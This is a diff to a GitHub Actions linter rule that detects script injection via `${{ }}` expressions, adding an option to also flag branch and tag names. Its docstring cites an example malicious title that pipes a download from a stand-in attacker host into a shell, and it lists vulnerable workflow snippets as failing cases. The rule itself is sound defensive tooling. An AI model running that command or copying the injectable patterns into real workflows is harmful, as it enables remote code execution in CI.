@@ -45,7 +45,7 @@ _EVENTS_OF_REPOSITORY = frozenset({"check_run", "check_suite", "merge_group", "s
     cwe=[78, 94],
     precision="high",
 )
-def no_script_injection(code: Code) -> Verdicts:
+def no_script_injection(code: Code, *, include_refs: bool = False) -> Verdicts:
     """Nothing that other people write is expanded inside code.
 
     GitHub replaces `${{ … }}` in a command before any shell reads it. A title such as `"; curl evil.example | sh; "`
@@ -53,9 +53,12 @@ def no_script_injection(code: Code) -> Verdicts:
     that some actions take as an input, for a container's options and for `shell:`.
 
     How grave it is depends on who writes the text and on what starts the workflow: critical where anyone can, with the
-    repository's own rights; medium for inputs of a dispatch, a call or a composite action; low for names of branches.
+    repository's own rights; medium for inputs of a dispatch, a call or a composite action.
     Comparisons, and functions that answer yes or no, let no text through; booleans, numbers and choices among inputs
     hold no code.
+
+    `include_refs` reports the name of the branch or tag that the workflow runs for too, where no filter fixes it:
+    whoever can push that can also push a changed workflow, so that it is low in severity.
 
     Fix: hand the value over in a variable (`env:`) and use that variable in the code, as the language there spells it
     (`"$TITLE"`, `$env:TITLE`, `process.env.TITLE`).
@@ -94,6 +97,15 @@ def no_script_injection(code: Code) -> Verdicts:
                 with:
                   script: core.info(`${{ github.event.pull_request.body }}`)
 
+    Fails (include_refs=true):
+        on: push
+        permissions: {}
+        jobs:
+          build:
+            runs-on: ubuntu-24.04
+            steps:
+              - run: make build VERSION=${{ github.ref_name }}
+
     Passes (a choice, a comparison and a literal):
         on:
           workflow_dispatch:
@@ -113,7 +125,7 @@ def no_script_injection(code: Code) -> Verdicts:
     step = code.step
     if (code.job is not None and code.job.is_never_run) or (step is not None and step.is_never_run):
         return
-    found = list(_injections(code)) if "${{" in code.scalar.value else []
+    found = list(_injections(code, include_refs)) if "${{" in code.scalar.value else []
     for injection in found:
         yield _verdict(code, injection)
     if not found:
@@ -128,14 +140,14 @@ class _Injection(NamedTuple):
     fix: Fix | None
 
 
-def _injections(code: Code) -> Iterator[_Injection]:
+def _injections(code: Code, include_refs: bool) -> Iterator[_Injection]:
     owner = _owner(code)
     tainted: list[tuple[Embedded, Taint]] = []
     for embedded in code.expressions:
         if embedded.tree is None:
             continue
         taint = Scope(owner, code.job, code.step).taint(embedded.tree)
-        if taint is not None:
+        if taint is not None and (include_refs or taint.writer != "refs"):
             tainted.append((embedded, taint))
     # One fix mends the whole text: each expression needs a variable, and two fixes would both add `env:`.
     fix = lift_to_variables(code, [embedded for embedded, _ in tainted]) if tainted else None
